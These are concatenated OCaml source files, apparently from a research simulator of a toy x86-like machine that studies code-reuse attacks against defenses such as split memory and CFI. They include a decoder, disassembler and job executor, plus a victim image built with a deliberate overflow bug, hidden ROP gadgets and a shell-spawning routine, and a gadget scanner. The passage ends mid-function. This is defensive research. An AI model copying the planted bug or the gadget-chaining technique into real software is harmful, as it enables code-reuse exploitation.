  | Debug_trap ->
    Hw.Cost.charge_trap m.cost;
    if not (m.protection.on_debug_trap (M.ctx m) p) then p.regs.tf <- false

(* Deliver a whole step result: the primary outcome first (retired
   instructions just charge and count — they are not traps), then the
   piggybacked #DB, which x86 raises after the instruction completes and
   only if the fault path didn't already unschedule the process. *)
let deliver ?table (m : M.t) (p : Proc.t) (r : Hw.Cpu.step) =
  (match r.outcome with
  | Ok Hw.Cpu.Retired ->
    Hw.Cost.charge_insn m.cost;
    (match m.hot with None -> () | Some h -> Obs.Metrics.incr h.h_retired)
  | Ok (Hw.Cpu.Syscall n) -> serve ?table m p (Syscall n)
  | Error (Hw.Cpu.Page f) -> serve ?table m p (Page_fault f)
  | Error (Hw.Cpu.Invalid_opcode { eip; opcode }) ->
    serve ?table m p (Invalid_opcode { eip; opcode })
  | Error (Hw.Cpu.General_protection s) -> serve ?table m p (General_protection s));
  if r.debug_trap && Proc.is_runnable p then serve ?table m p Debug_trap
