(** Instruction decoding, byte-at-a-time through a fetch callback. *)

type error =
  | Bad_opcode of int  (** undefined opcode — an invalid-opcode fault *)
  | Bad_register of int  (** register field outside 0..7 *)
  | Truncated
      (** the instruction extends past the end of the byte string — only
          reported by {!of_string}; a fetch-callback decode faults in
          [fetch] instead *)

val decode : fetch:(int -> int) -> int -> (Insn.t, error) result
(** [decode ~fetch pc] decodes the instruction at address [pc]. Each byte is
    obtained via [fetch addr]; [fetch] may raise (e.g. a simulated page
    fault) and the exception propagates, modelling a fault during the
    instruction fetch. Relative targets are sign-extended. *)

val of_string : string -> int -> (Insn.t, error) result
(** Decode from a raw byte string at the given offset. Total over every
    offset: an instruction that would read past the end of the string is
    [Error Truncated]. *)

val sign32 : int -> int
(** Interpret a 32-bit value as a signed two's-complement integer. *)
