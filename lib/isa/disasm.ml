let insn_at bytes pos = Decode.of_string bytes pos

let region ?(max_insns = max_int) bytes ~pos ~len =
  let stop = min (String.length bytes) (pos + len) in
  let rec go acc count p =
    if p >= stop || count >= max_insns then List.rev acc
    else
      match Decode.of_string bytes p with
      | Ok insn -> go ((p, Ok insn) :: acc) (count + 1) (p + Insn.size insn)
      | Error e -> go ((p, Error e) :: acc) (count + 1) (p + 1)
  in
  go [] 0 pos

let pp_line ~base ppf (off, r) =
  match r with
  | Ok insn -> Fmt.pf ppf "%08x:  %a" (base + off) Insn.pp insn
  | Error (Decode.Bad_opcode op) -> Fmt.pf ppf "%08x:  (bad opcode 0x%02x)" (base + off) op
  | Error (Decode.Bad_register v) -> Fmt.pf ppf "%08x:  (bad register %d)" (base + off) v
  | Error Decode.Truncated -> Fmt.pf ppf "%08x:  (truncated)" (base + off)

let to_string ?(base = 0) ?max_insns bytes ~pos ~len =
  region ?max_insns bytes ~pos ~len
  |> List.map (fun line -> Fmt.str "%a" (pp_line ~base) line)
  |> String.concat "\n"

let hex_dump ?(width = 16) bytes ~pos ~len =
  let stop = min (String.length bytes) (pos + len) in
  let buf = Buffer.create 128 in
  let rec rows p =
    if p < stop then begin
      Buffer.add_string buf (Fmt.str "%04x: " (p - pos));
      for i = p to min (p + width - 1) (stop - 1) do
        Buffer.add_string buf (Fmt.str "%02x " (Char.code bytes.[i]))
      done;
      Buffer.add_char buf '\n';
      rows (p + width)
    end
  in
  rows pos;
  Buffer.contents buf
