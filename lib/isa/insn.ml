type target = Rel of int | Lbl of string

type t =
  | Nop
  | Hlt
  | Mov_ri of Reg.t * int
  | Mov_rr of Reg.t * Reg.t
  | Load of Reg.t * Reg.t * int
  | Store of Reg.t * int * Reg.t
  | Loadb of Reg.t * Reg.t * int
  | Storeb of Reg.t * int * Reg.t
  | Push of Reg.t
  | Pop of Reg.t
  | Lea of Reg.t * Reg.t * int
  | Add of Reg.t * Reg.t
  | Sub of Reg.t * Reg.t
  | Add_ri of Reg.t * int
  | Cmp of Reg.t * Reg.t
  | Cmp_ri of Reg.t * int
  | And_ of Reg.t * Reg.t
  | Or_ of Reg.t * Reg.t
  | Xor of Reg.t * Reg.t
  | Mul of Reg.t * Reg.t
  | Shl of Reg.t * int
  | Shr of Reg.t * int
  | Jmp of target
  | Jz of target
  | Jnz of target
  | Jl of target
  | Jge of target
  | Jmp_r of Reg.t
  | Call of target
  | Call_r of Reg.t
  | Ret
  | Int of int

let size = function
  | Nop | Hlt | Ret -> 1
  | Push _ | Pop _ | Jmp_r _ | Call_r _ | Int _ -> 2
  | Mov_rr _ | Add _ | Sub _ | Cmp _ | And_ _ | Or_ _ | Xor _ | Mul _
  | Shl _ | Shr _ ->
    3
  | Jmp _ | Jz _ | Jnz _ | Jl _ | Jge _ | Call _ -> 5
  | Mov_ri _ | Add_ri _ | Cmp_ri _ -> 6
  | Load _ | Store _ | Loadb _ | Storeb _ | Lea _ -> 7

(* An instruction after which straight-line execution cannot be assumed:
   every control transfer (conditional or not — a not-taken branch still
   ends the decoded run), the syscall gate, and [hlt]. Basic-block
   construction (Hw.Bbcache) stops at — and includes — these. *)
let is_block_end = function
  | Jmp _ | Jz _ | Jnz _ | Jl _ | Jge _ | Jmp_r _ | Call _ | Call_r _ | Ret | Int _
  | Hlt ->
    true
  | Nop | Mov_ri _ | Mov_rr _ | Load _ | Store _ | Loadb _ | Storeb _ | Push _
  | Pop _ | Lea _ | Add _ | Sub _ | Add_ri _ | Cmp _ | Cmp_ri _ | And_ _ | Or_ _
  | Xor _ | Mul _ | Shl _ | Shr _ ->
    false

let pp_target ppf = function
  | Rel d -> Fmt.pf ppf "%+d" d
  | Lbl l -> Fmt.string ppf l

let pp ppf insn =
  let r = Reg.pp in
  match insn with
  | Nop -> Fmt.string ppf "nop"
  | Hlt -> Fmt.string ppf "hlt"
  | Mov_ri (d, i) -> Fmt.pf ppf "mov %a, 0x%x" r d i
  | Mov_rr (d, s) -> Fmt.pf ppf "mov %a, %a" r d r s
  | Load (d, b, off) -> Fmt.pf ppf "mov %a, [%a%+d]" r d r b off
  | Store (b, off, s) -> Fmt.pf ppf "mov [%a%+d], %a" r b off r s
  | Loadb (d, b, off) -> Fmt.pf ppf "movb %a, [%a%+d]" r d r b off
  | Storeb (b, off, s) -> Fmt.pf ppf "movb [%a%+d], %a" r b off r s
  | Push s -> Fmt.pf ppf "push %a" r s
  | Pop d -> Fmt.pf ppf "pop %a" r d
  | Lea (d, b, off) -> Fmt.pf ppf "lea %a, [%a%+d]" r d r b off
  | Add (d, s) -> Fmt.pf ppf "add %a, %a" r d r s
  | Sub (d, s) -> Fmt.pf ppf "sub %a, %a" r d r s
  | Add_ri (d, i) -> Fmt.pf ppf "add %a, %d" r d i
  | Cmp (a, b) -> Fmt.pf ppf "cmp %a, %a" r a r b
  | Cmp_ri (a, i) -> Fmt.pf ppf "cmp %a, %d" r a i
  | And_ (d, s) -> Fmt.pf ppf "and %a, %a" r d r s
  | Or_ (d, s) -> Fmt.pf ppf "or %a, %a" r d r s
  | Xor (d, s) -> Fmt.pf ppf "xor %a, %a" r d r s
  | Mul (d, s) -> Fmt.pf ppf "mul %a, %a" r d r s
  | Shl (d, i) -> Fmt.pf ppf "shl %a, %d" r d i
  | Shr (d, i) -> Fmt.pf ppf "shr %a, %d" r d i
  | Jmp t -> Fmt.pf ppf "jmp %a" pp_target t
  | Jz t -> Fmt.pf ppf "jz %a" pp_target t
  | Jnz t -> Fmt.pf ppf "jnz %a" pp_target t
  | Jl t -> Fmt.pf ppf "jl %a" pp_target t
  | Jge t -> Fmt.pf ppf "jge %a" pp_target t
  | Jmp_r s -> Fmt.pf ppf "jmp %a" r s
  | Call t -> Fmt.pf ppf "call %a" pp_target t
  | Call_r s -> Fmt.pf ppf "call %a" r s
  | Ret -> Fmt.string ppf "ret"
  | Int n -> Fmt.pf ppf "int 0x%x" n

let to_string = Fmt.to_to_string pp
