type error = Bad_opcode of int | Bad_register of int | Truncated

let sign32 v = if v land 0x80000000 <> 0 then v - 0x100000000 else v

(* Decoding pulls bytes one at a time through [fetch] so that an instruction
   straddling a page boundary performs a fetch-access on both pages, exactly
   as a hardware prefetcher would. [fetch] may raise (e.g. a page fault). *)
let decode ~fetch pc =
  let u8 off = fetch (pc + off) land 0xFF in
  let u32 off = u8 off lor (u8 (off + 1) lsl 8) lor (u8 (off + 2) lsl 16) lor (u8 (off + 3) lsl 24) in
  let reg off k =
    let v = u8 off in
    match Reg.of_int v with Some r -> k r | None -> Error (Bad_register v)
  in
  let opcode = u8 0 in
  match opcode with
  | 0x90 -> Ok Insn.Nop
  | 0xF4 -> Ok Insn.Hlt
  | 0x01 -> reg 1 (fun d -> Ok (Insn.Mov_ri (d, u32 2)))
  | 0x02 -> reg 1 (fun d -> reg 2 (fun s -> Ok (Insn.Mov_rr (d, s))))
  | 0x03 -> reg 1 (fun d -> reg 2 (fun b -> Ok (Insn.Load (d, b, sign32 (u32 3)))))
  | 0x04 -> reg 1 (fun b -> reg 6 (fun s -> Ok (Insn.Store (b, sign32 (u32 2), s))))
  | 0x05 -> reg 1 (fun d -> reg 2 (fun b -> Ok (Insn.Loadb (d, b, sign32 (u32 3)))))
  | 0x06 -> reg 1 (fun b -> reg 6 (fun s -> Ok (Insn.Storeb (b, sign32 (u32 2), s))))
  | 0x07 -> reg 1 (fun s -> Ok (Insn.Push s))
  | 0x08 -> reg 1 (fun d -> Ok (Insn.Pop d))
  | 0x09 -> reg 1 (fun d -> reg 2 (fun b -> Ok (Insn.Lea (d, b, sign32 (u32 3)))))
  | 0x10 -> reg 1 (fun d -> reg 2 (fun s -> Ok (Insn.Add (d, s))))
  | 0x11 -> reg 1 (fun d -> reg 2 (fun s -> Ok (Insn.Sub (d, s))))
  | 0x12 -> reg 1 (fun d -> Ok (Insn.Add_ri (d, sign32 (u32 2))))
  | 0x13 -> reg 1 (fun a -> reg 2 (fun b -> Ok (Insn.Cmp (a, b))))
  | 0x14 -> reg 1 (fun a -> Ok (Insn.Cmp_ri (a, sign32 (u32 2))))
  | 0x15 -> reg 1 (fun d -> reg 2 (fun s -> Ok (Insn.And_ (d, s))))
  | 0x16 -> reg 1 (fun d -> reg 2 (fun s -> Ok (Insn.Or_ (d, s))))
  | 0x17 -> reg 1 (fun d -> reg 2 (fun s -> Ok (Insn.Xor (d, s))))
  | 0x18 -> reg 1 (fun d -> reg 2 (fun s -> Ok (Insn.Mul (d, s))))
  | 0x19 -> reg 1 (fun d -> Ok (Insn.Shl (d, u8 2)))
  | 0x1A -> reg 1 (fun d -> Ok (Insn.Shr (d, u8 2)))
  | 0x20 -> Ok (Insn.Jmp (Rel (sign32 (u32 1))))
  | 0x21 -> Ok (Insn.Jz (Rel (sign32 (u32 1))))
  | 0x22 -> Ok (Insn.Jnz (Rel (sign32 (u32 1))))
  | 0x23 -> Ok (Insn.Jl (Rel (sign32 (u32 1))))
  | 0x24 -> Ok (Insn.Jge (Rel (sign32 (u32 1))))
  | 0x28 -> reg 1 (fun s -> Ok (Insn.Jmp_r s))
  | 0x30 -> Ok (Insn.Call (Rel (sign32 (u32 1))))
  | 0x31 -> reg 1 (fun s -> Ok (Insn.Call_r s))
  | 0x32 -> Ok Insn.Ret
  | 0xCD -> Ok (Insn.Int (u8 1))
  | op -> Error (Bad_opcode op)

(* A gadget scanner walks decode across every byte offset of an image, so
   this must be total: an instruction whose operands would extend past the
   end of the string is reported as [Truncated], never silently decoded
   from phantom zero bytes and never an out-of-bounds access. *)
let of_string s pos =
  let len = String.length s in
  if pos < 0 || pos >= len then Error Truncated
  else begin
    let past_end = ref false in
    let fetch i =
      if i < len then Char.code s.[i]
      else begin
        past_end := true;
        0
      end
    in
    let r = decode ~fetch pos in
    if !past_end then Error Truncated else r
  end
