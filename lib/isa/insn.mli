(** Instruction set of the simulated machine.

    The ISA is a byte-encoded, 32-bit, little-endian instruction set with an
    x86 flavor: [0x90] encodes {!Nop} (so NOP sleds in captured shellcode
    look like the paper's Fig. 5c), [int 0x80] is the syscall gate, and any
    undefined opcode — including [0x00], the content of a pristine code-copy
    page — raises an invalid-opcode fault when fetched. *)

type target =
  | Rel of int  (** displacement relative to the end of the instruction *)
  | Lbl of string  (** symbolic label, resolved by {!Asm.assemble} *)

type t =
  | Nop  (** 0x90 *)
  | Hlt  (** 0xF4 — privileged; faults in user mode *)
  | Mov_ri of Reg.t * int  (** rd <- imm32 *)
  | Mov_rr of Reg.t * Reg.t  (** rd <- rs *)
  | Load of Reg.t * Reg.t * int  (** rd <- mem32[rb + disp] *)
  | Store of Reg.t * int * Reg.t  (** mem32[rb + disp] <- rs *)
  | Loadb of Reg.t * Reg.t * int  (** rd <- zero-extended mem8[rb + disp] *)
  | Storeb of Reg.t * int * Reg.t  (** mem8[rb + disp] <- low byte of rs *)
  | Push of Reg.t  (** esp -= 4; mem32[esp] <- rs *)
  | Pop of Reg.t  (** rd <- mem32[esp]; esp += 4 *)
  | Lea of Reg.t * Reg.t * int  (** rd <- rb + disp (no memory access) *)
  | Add of Reg.t * Reg.t
  | Sub of Reg.t * Reg.t
  | Add_ri of Reg.t * int
  | Cmp of Reg.t * Reg.t  (** sets ZF/SF from rd - rs *)
  | Cmp_ri of Reg.t * int
  | And_ of Reg.t * Reg.t
  | Or_ of Reg.t * Reg.t
  | Xor of Reg.t * Reg.t
  | Mul of Reg.t * Reg.t
  | Shl of Reg.t * int  (** shift left by imm8 *)
  | Shr of Reg.t * int  (** logical shift right by imm8 *)
  | Jmp of target
  | Jz of target  (** jump if ZF *)
  | Jnz of target
  | Jl of target  (** jump if SF (signed less after Cmp) *)
  | Jge of target
  | Jmp_r of Reg.t  (** indirect jump *)
  | Call of target  (** pushes return address *)
  | Call_r of Reg.t  (** indirect call *)
  | Ret  (** pops return address *)
  | Int of int  (** software interrupt; 0x80 = syscall *)

val size : t -> int
(** Encoded size in bytes (independent of label resolution). *)

val is_block_end : t -> bool
(** True for instructions that terminate a decoded basic block: every
    control transfer (including not-taken conditionals), [int], and [hlt]. *)

val pp : Format.formatter -> t -> unit
val to_string : t -> string
