(** Domain-parallel job executor: a fixed worker pool over OCaml 5
    [Domain.t] that runs a list of independent jobs and returns their
    results in submission order.

    Built for the evaluation grid: every cell of the paper's tables and
    figures is an independent simulated machine, so the whole grid fans
    out across cores. The contract that makes this safe to wire into the
    report generators:

    - {b Determinism}: results come back in submission order, so any
      output derived from them is bit-identical for every [jobs] value
      (including 1, which runs inline on the calling domain).
    - {b Containment}: a job that raises — a crashed machine, exhausted
      fuel — yields an [Error] carrying the job's index, label and the
      exception text; it never aborts the fleet or its siblings.
    - {b Isolation}: the pool shares nothing between jobs; each job must
      be self-contained (the simulator's machines are — see DESIGN.md §8).

    Implementation: stdlib only — a [Mutex]/[Condition] job queue drained
    by [min jobs (length items)] worker domains. *)

type error = {
  index : int;  (** submission position of the failed job *)
  label : string;  (** job label (see the [label] argument) *)
  reason : string;  (** [Printexc.to_string] of the raised exception *)
}

type stats = {
  jobs : int;  (** jobs submitted *)
  failures : int;  (** jobs that raised *)
  workers : int;  (** worker domains actually used *)
  wall_us : int;  (** wall-clock of the whole fleet run, microseconds *)
  job_us : int array;  (** per-job wall-clock, submission order *)
  speedup : float;  (** sum of per-job wall-clock over fleet wall-clock *)
}

val default_jobs : unit -> int
(** [Domain.recommended_domain_count ()], at least 1. *)

val map :
  ?obs:Obs.t ->
  ?jobs:int ->
  ?label:('a -> string) ->
  ('a -> 'b) ->
  'a list ->
  ('b, error) result list
(** [map f items] runs [f] over every item on at most [jobs] (default
    {!default_jobs}) worker domains and returns the outcomes in submission
    order. [jobs <= 1] runs inline on the calling domain — same results,
    no domains spawned. When [obs] is given, records the fleet metrics
    ([fleet.jobs], [fleet.failures], [fleet.workers], the [fleet.job_us]
    wall-time histogram and the [fleet.speedup] gauge) after all workers
    join. [label] names jobs in error reports (default: ["job"]). *)

val map_stats :
  ?obs:Obs.t ->
  ?jobs:int ->
  ?label:('a -> string) ->
  ('a -> 'b) ->
  'a list ->
  ('b, error) result list * stats
(** Like {!map}, also returning the run's {!stats}. *)

val record : Obs.t -> stats -> unit
(** Record a {!stats} into the obs registry (what {!map} does). *)
