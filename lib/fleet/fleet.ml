type error = { index : int; label : string; reason : string }

type stats = {
  jobs : int;
  failures : int;
  workers : int;
  wall_us : int;
  job_us : int array;
  speedup : float;
}

let default_jobs () = max 1 (Domain.recommended_domain_count ())

(* Wall clock, not [Sys.time]: CPU time sums over domains, which is
   exactly the wrong metric for a parallelism speedup. *)
let now_us () = int_of_float (Unix.gettimeofday () *. 1e6)

(* A close-able Mutex/Condition job queue. All jobs are enqueued before the
   workers start, but the structure stays general (waiters block until an
   item arrives or the queue is closed). *)
module Jobq = struct
  type 'a t = {
    m : Mutex.t;
    nonempty : Condition.t;
    items : 'a Queue.t;
    mutable closed : bool;
  }

  let create () =
    {
      m = Mutex.create ();
      nonempty = Condition.create ();
      items = Queue.create ();
      closed = false;
    }

  let push t x =
    Mutex.lock t.m;
    Queue.push x t.items;
    Condition.signal t.nonempty;
    Mutex.unlock t.m

  let close t =
    Mutex.lock t.m;
    t.closed <- true;
    Condition.broadcast t.nonempty;
    Mutex.unlock t.m

  (* [None] once the queue is closed and drained. *)
  let pop t =
    Mutex.lock t.m;
    let rec wait () =
      match Queue.take_opt t.items with
      | Some x ->
        Mutex.unlock t.m;
        Some x
      | None ->
        if t.closed then begin
          Mutex.unlock t.m;
          None
        end
        else begin
          Condition.wait t.nonempty t.m;
          wait ()
        end
    in
    wait ()
end

let record obs stats =
  if Obs.enabled obs then begin
    let reg = Obs.metrics obs in
    Obs.Metrics.incr ~by:stats.jobs (Obs.counter obs "fleet.jobs");
    Obs.Metrics.incr ~by:stats.failures (Obs.counter obs "fleet.failures");
    Obs.Metrics.set_gauge (Obs.Metrics.gauge reg "fleet.workers") (float_of_int stats.workers);
    Obs.Metrics.set_gauge (Obs.Metrics.gauge reg "fleet.speedup") stats.speedup;
    let h = Obs.histogram obs "fleet.job_us" in
    Array.iter (Obs.Metrics.observe h) stats.job_us
  end

let map_stats ?obs ?(jobs = default_jobs ()) ?(label = fun _ -> "job") f items =
  let arr = Array.of_list items in
  let n = Array.length arr in
  let workers = max 1 (min jobs n) in
  (* Each slot is written by exactly one worker, then read only after every
     domain has been joined — no synchronization beyond the queue needed. *)
  let results = Array.make n None in
  let job_us = Array.make n 0 in
  let exec i =
    let x = arr.(i) in
    let t0 = now_us () in
    let r =
      try Ok (f x)
      with e -> Error { index = i; label = label x; reason = Printexc.to_string e }
    in
    job_us.(i) <- now_us () - t0;
    results.(i) <- Some r
  in
  let t0 = now_us () in
  if workers <= 1 then
    for i = 0 to n - 1 do
      exec i
    done
  else begin
    let q = Jobq.create () in
    for i = 0 to n - 1 do
      Jobq.push q i
    done;
    Jobq.close q;
    let worker () =
      let rec drain () =
        match Jobq.pop q with
        | Some i ->
          exec i;
          drain ()
        | None -> ()
      in
      drain ()
    in
    let domains = Array.init workers (fun _ -> Domain.spawn worker) in
    Array.iter Domain.join domains
  end;
  let wall_us = max 1 (now_us () - t0) in
  let results =
    Array.to_list
      (Array.map (function Some r -> r | None -> assert false) results)
  in
  let failures =
    List.fold_left
      (fun acc -> function Error _ -> acc + 1 | Ok _ -> acc)
      0 results
  in
  let busy_us = Array.fold_left ( + ) 0 job_us in
  let stats =
    {
      jobs = n;
      failures;
      workers;
      wall_us;
      job_us;
      speedup = float_of_int busy_us /. float_of_int wall_us;
    }
  in
  Option.iter (fun o -> record o stats) obs;
  (results, stats)

let map ?obs ?jobs ?label f items = fst (map_stats ?obs ?jobs ?label f items)
