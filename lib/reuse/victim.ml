open Isa.Asm

(* The code-reuse victim: a network daemon with the same gets()-style
   copy bug as the Wilander victims, but attacked without injecting a
   single instruction byte.

   The image deliberately looks like real compiled output:

   - a checksum routine whose 16-byte-aligned blocks load large protocol
     constants — and on a variable-length ISA those immediates decode,
     two bytes in, to [pop ebx; ret] / [pop eax; ret] / [int 0x80; ret].
     Unintended gadgets, present in the shipped text, written by nobody
     at runtime;
   - a privileged [maintenance] routine (execve("/bin/sh") then exit) that
     normal control flow never reaches — the return-into-libtext target;
   - a function pointer in data ([gfptr]) dispatching a handler, giving
     the fptr-clobber variant.

   The aligned blocks are jumped into (the padding bytes are zero and
   must never be executed), exactly how compilers align loop heads. The
   alignment also keeps every gadget address at 16k+2, so no address
   byte can be 0x0A — the one byte the copy loop would stop at. *)

(* The three constants carrying gadgets at immediate offset +2:
   bytes 08 03 32 = pop ebx; ret   08 00 32 = pop eax; ret
   bytes CD 80 32 = int 0x80; ret *)
let const_pop_ebx = 0x00320308
let const_pop_eax = 0x00320008
let const_syscall = 0x003280CD

(* Selector protocol: first byte picks the handler. *)
let sel_stack = "\000" (* frame-copy path: vulnerable [vuln] *)
let sel_fptr = "\001" (* dispatch path: copy into gbuf, call [gfptr] *)

let image () =
  Kernel.Image.build ~name:"reuse-victim"
    ~data:(fun ~lbl ->
      [
        L "sh";
        Bytes "/bin/sh\000";
        Align 16;
        L "sel";
        Space 1;
        Align 16;
        L "pkt";
        Space 512;
        Align 16;
        L "gbuf";
        Space 64;
        L "gfptr";
        Word32 (lbl "benign");
        L "done_msg";
        Bytes "DONE";
      ])
    ~code:(fun ~lbl ->
      [ L "main"; I (Push EBP); I (Mov_rr (EBP, ESP)); I (Add_ri (ESP, -1024)) ]
      @ Guest.sys_read_imm ~buf:(lbl "sel") ~len:1
      @ Guest.sys_read_imm ~buf:(lbl "pkt") ~len:512
      @ [
          I (Call (Lbl "checksum"));
          I (Mov_ri (ESI, lbl "sel"));
          I (Loadb (EAX, ESI, 0));
          I (Cmp_ri (EAX, 1));
          I (Jz (Lbl "dispatch"));
          (* default: parse the packet in a stack frame *)
          I (Mov_ri (EAX, lbl "pkt"));
          I (Push EAX);
          I (Call (Lbl "vuln"));
          I (Add_ri (ESP, 4));
          I (Jmp (Lbl "finish"));
          (* handler dispatch through the data function pointer *)
          L "dispatch";
          I (Mov_ri (ESI, lbl "pkt"));
          I (Mov_ri (EDI, lbl "gbuf"));
        ]
      @ Guest.copy_until_newline ~tag:"dsp"
      @ [
          I (Mov_ri (ESI, lbl "gfptr"));
          I (Load (EAX, ESI, 0));
          I (Call_r EAX);
          L "finish";
        ]
      @ Guest.sys_write_imm ~buf:(lbl "done_msg") ~len:4 ()
      @ Guest.sys_exit 0
      @ [ L "benign"; I Ret ]
      @ [
          L "vuln";
          I (Push EBP);
          I (Mov_rr (EBP, ESP));
          I (Add_ri (ESP, -64));
          I (Load (ESI, EBP, 8));
          I (Lea (EDI, EBP, -64));
        ]
      @ Guest.copy_until_newline ~tag:"vuln"
      @ [ I (Mov_rr (ESP, EBP)); I (Pop EBP); I Ret ]
      @ [
          (* Packet checksum over protocol magic constants; the aligned
             blocks are entered by jump, never by fall-through (the
             alignment padding is not code). *)
          L "checksum";
          I (Mov_ri (EAX, 0));
          I (Jmp (Lbl "ck1"));
          Align 16;
          L "ck1";
          I (Mov_ri (EDX, const_pop_ebx));
          I (Add (EAX, EDX));
          I (Jmp (Lbl "ck2"));
          Align 16;
          L "ck2";
          I (Mov_ri (EDX, const_pop_eax));
          I (Xor (EAX, EDX));
          I (Jmp (Lbl "ck3"));
          Align 16;
          L "ck3";
          I (Mov_ri (EDX, const_syscall));
          I (Add (EAX, EDX));
          I Ret;
        ]
      @ [
          (* Privileged maintenance mode: spawns a shell then exits.
             Dead code on every legitimate path — no call, no jump, no
             address-taken reference — but it ships on the code pages,
             and that is all return-into-libtext needs. *)
          Align 16;
          L "maintenance";
          I (Mov_ri (EBX, lbl "sh"));
          I (Mov_ri (EAX, 11));
          I (Int 0x80);
          I (Mov_ri (EAX, 1));
          I (Mov_ri (EBX, 0));
          I (Int 0x80);
        ])
    ~entry:"main" ()
