(** The code-reuse victim image: a daemon with the shared gets()-style
    copy bug, unintended gadgets inside checksum-constant immediates, a
    never-called privileged [maintenance] routine, and a data function
    pointer ([gfptr]) — everything the reuse attacks need and nothing a
    split memory would ever see written. *)

val const_pop_ebx : int
val const_pop_eax : int
val const_syscall : int
(** The checksum constants whose encodings carry the gadgets at
    immediate offset +2. *)

val sel_stack : string
(** Selector byte for the vulnerable stack-frame path. *)

val sel_fptr : string
(** Selector byte for the function-pointer dispatch path. *)

val image : unit -> Kernel.Image.t
