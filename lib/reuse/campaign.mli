(** The code-reuse campaign and the defense x attack matrix.

    Three reuse attacks retarget the victim's copy bug without injecting
    code; crossed with the classic injection representatives against
    every defense configuration, they locate the exact boundary of split
    memory (paper §7) and show CFI closing it. *)

type attack = Rop_chain | Ret2libtext | Fptr_clobber

val attacks : attack list
val attack_name : attack -> string
val attack_descr : attack -> string

val scan : ?max_insns:int -> unit -> Gadget.t list
(** Scan the victim image for gadgets. *)

val chain_for : Kernel.Image.t -> Chain.t
(** The execve chain built from the image's own gadgets. *)

val packet : Kernel.Image.t -> attack -> string
(** The full stdin bytes (selector + overflow + newline) for an attack
    on [Victim.image]. *)

val run : ?defense:Defense.t -> attack -> Attack.Runner.outcome

val benign : ?defense:Defense.t -> string -> Attack.Runner.outcome * string
(** [benign sel] runs a harmless session down the [sel] path (see
    {!Victim.sel_stack} / {!Victim.sel_fptr}); returns outcome and
    stdout. *)

(** {2 The matrix} *)

type row = Injection of Attack.Wilander.technique | Reuse of attack

val rows : (string * row) list
val defenses : (string * Defense.t) list

val expected_escape : defense:Defense.t -> row:row -> bool

type cell = {
  defense : string;
  attack : string;
  expected : bool;
  result : (Attack.Runner.outcome, string) result;
}

val cell_ok : cell -> bool
(** The cell matches the threat model: escapes exactly when expected,
    and a stopped attack is a logged detection, not a mere crash. *)

val matrix : ?jobs:int -> unit -> cell list
(** Run the full grid on the fleet; submission-order results make the
    output identical for every [jobs]. *)

val check : cell list -> bool

val render : Format.formatter -> cell list -> unit
