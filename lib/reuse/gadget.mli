(** Gadget scanner: every-byte-offset decode walk over an image's
    executable segments, indexing the short sequences that end in an
    attacker-steerable transfer (ret / jmp reg / call reg) — including the
    unintended sequences hiding inside instruction immediates, which is
    what makes code reuse possible without writing a single code byte. *)

type terminator = Ret | Jmp_reg of Isa.Reg.t | Call_reg of Isa.Reg.t

val terminator_name : terminator -> string

type t = {
  addr : int;  (** virtual address of the first instruction *)
  insns : Isa.Insn.t list;  (** the sequence, terminator included *)
  terminator : terminator;
}

val size : t -> int
(** Encoded length in bytes. *)

val pp : Format.formatter -> t -> unit

val at : ?max_insns:int -> base:int -> string -> int -> t option
(** [at ~base bytes pos] walks forward from byte offset [pos], returning
    the gadget found there: at most [max_insns] (default 4) decoded
    instructions reaching a terminator. Total over any offset — decode
    failures (including [Truncated] at the segment boundary) simply yield
    [None]. *)

val scan_segment : ?max_insns:int -> base:int -> string -> t list
(** Every gadget at every byte offset, ascending address. *)

val scan_image : ?max_insns:int -> Kernel.Image.t -> t list
(** Scan all executable (code/lib/mixed) segments. *)

val pop_ret : t list -> Isa.Reg.t -> t option
(** First [pop r; ret] gadget for the given register. *)

val syscall_ret : t list -> t option
(** First [int 0x80; ret] gadget. *)

val ret_only : t list -> t option
(** First bare [ret] gadget. *)
