(* Gadget scanner: walk the decoder across *every byte offset* of an
   image's executable segments and index the short instruction sequences
   that end in a control transfer the attacker steers (ret, jmp reg,
   call reg).

   Scanning at every offset, not just instruction boundaries, is the whole
   point: on a variable-length ISA the bytes *inside* a legitimate
   instruction decode to different instructions at a one-byte shift, so an
   innocent [mov edx, 0x00320308] carries a perfectly good
   [pop ebx; ret] two bytes in. These unintended sequences are what ROP
   lives on, and none of them is ever *written* by the attacker — split
   memory and NX, which police where instruction bytes come from, never
   see anything wrong. Totality over arbitrary offsets is guaranteed by
   [Isa.Decode.of_string] reporting [Truncated] at segment boundaries
   instead of fabricating phantom bytes. *)

type terminator = Ret | Jmp_reg of Isa.Reg.t | Call_reg of Isa.Reg.t

let terminator_name = function
  | Ret -> "ret"
  | Jmp_reg r -> Fmt.str "jmp %s" (Isa.Reg.name r)
  | Call_reg r -> Fmt.str "call %s" (Isa.Reg.name r)

type t = {
  addr : int;  (** virtual address of the first instruction *)
  insns : Isa.Insn.t list;  (** the sequence, terminator included *)
  terminator : terminator;
}

let size g = List.fold_left (fun n i -> n + Isa.Insn.size i) 0 g.insns

let pp ppf g =
  Fmt.pf ppf "%08x:  %s" g.addr
    (String.concat "; " (List.map Isa.Insn.to_string g.insns))

(* Walk forward from one byte offset, collecting at most [max_insns]
   instructions; a gadget is recorded iff a terminator is reached before
   the window closes or decoding fails. *)
let at ?(max_insns = 4) ~base bytes pos =
  let rec walk acc n p =
    if n >= max_insns then None
    else
      match Isa.Decode.of_string bytes p with
      | Error _ -> None
      | Ok insn -> (
        match insn with
        | Isa.Insn.Ret ->
          Some { addr = base + pos; insns = List.rev (insn :: acc); terminator = Ret }
        | Isa.Insn.Jmp_r r ->
          Some { addr = base + pos; insns = List.rev (insn :: acc); terminator = Jmp_reg r }
        | Isa.Insn.Call_r r ->
          Some
            { addr = base + pos; insns = List.rev (insn :: acc); terminator = Call_reg r }
        | Isa.Insn.Hlt | Isa.Insn.Int _ | Isa.Insn.Nop | Isa.Insn.Mov_ri _
        | Isa.Insn.Mov_rr _ | Isa.Insn.Load _ | Isa.Insn.Store _ | Isa.Insn.Loadb _
        | Isa.Insn.Storeb _ | Isa.Insn.Push _ | Isa.Insn.Pop _ | Isa.Insn.Lea _
        | Isa.Insn.Add _ | Isa.Insn.Sub _ | Isa.Insn.Add_ri _ | Isa.Insn.Cmp _
        | Isa.Insn.Cmp_ri _ | Isa.Insn.And_ _ | Isa.Insn.Or_ _ | Isa.Insn.Xor _
        | Isa.Insn.Mul _ | Isa.Insn.Shl _ | Isa.Insn.Shr _ | Isa.Insn.Jmp _
        | Isa.Insn.Jz _ | Isa.Insn.Jnz _ | Isa.Insn.Jl _ | Isa.Insn.Jge _
